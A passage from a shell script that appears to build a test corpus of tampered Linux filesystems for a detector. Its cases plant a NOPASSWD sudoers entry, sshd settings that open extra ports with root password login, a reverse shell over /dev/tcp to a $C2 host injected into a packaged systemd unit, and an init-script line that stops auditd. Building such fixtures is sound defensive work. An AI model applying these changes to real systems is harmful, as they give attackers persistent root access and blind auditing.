  put 'etc/sudoers.d/backup~' 0440 <<'EOF'
daemon ALL=(ALL:ALL) NOPASSWD:ALL
EOF
}

# sshd opened: a drop-in with a second port and root's password logins; and
# sshd_config itself edited the same way.
case_sshd_dropin_opened() {
  put etc/ssh/sshd_config.d/50-cloudimg-settings.conf 0644 <<'EOF'
Port 22
Port 2223
PermitRootLogin yes
PasswordAuthentication yes
EOF
}

case_sshd_config_edited() {
  append etc/ssh/sshd_config <<'EOF'
Port 22
Port 40022
PermitRootLogin yes
EOF
}

# A package's unit changed after install: the reverse shell it gained keeps its severity,
# since the file is no longer what the package shipped.
case_tampered_packaged_unit() {
  install_packages cloud-init
  local unit=usr/lib/systemd/system/cloud-init-hotplugd.service
  sed -e "/^ExecStart=/i ExecStartPre=-/bin/bash -c 'exec 5<>/dev/tcp/$C2/8443; bash -i <&5 >&5 2>&5 &'" "$unit" | put "$unit" 0644
}

# A packaged init script with a line added that stops auditing before the service starts.
case_tampered_packaged_init_script() {
  install_packages apparmor
  sed -e '0,/^case "\$1" in/s//systemctl stop auditd >\/dev\/null 2>\&1 || true\ncase "$1" in/' etc/init.d/apparmor | put etc/init.d/apparmor 0755
}

for name in "$@"; do
  fn="case_${name//-/_}"
  if ! declare -F "$fn" >/dev/null; then
    echo "build-corpus.sh: no case named $name" >&2
    exit 2
  fi
  rm -rf "${out:?}/$name"
  mkdir -p "$out"
  cp -al "$root" "$out/$name"
  (cd "$out/$name" && "$fn")
done
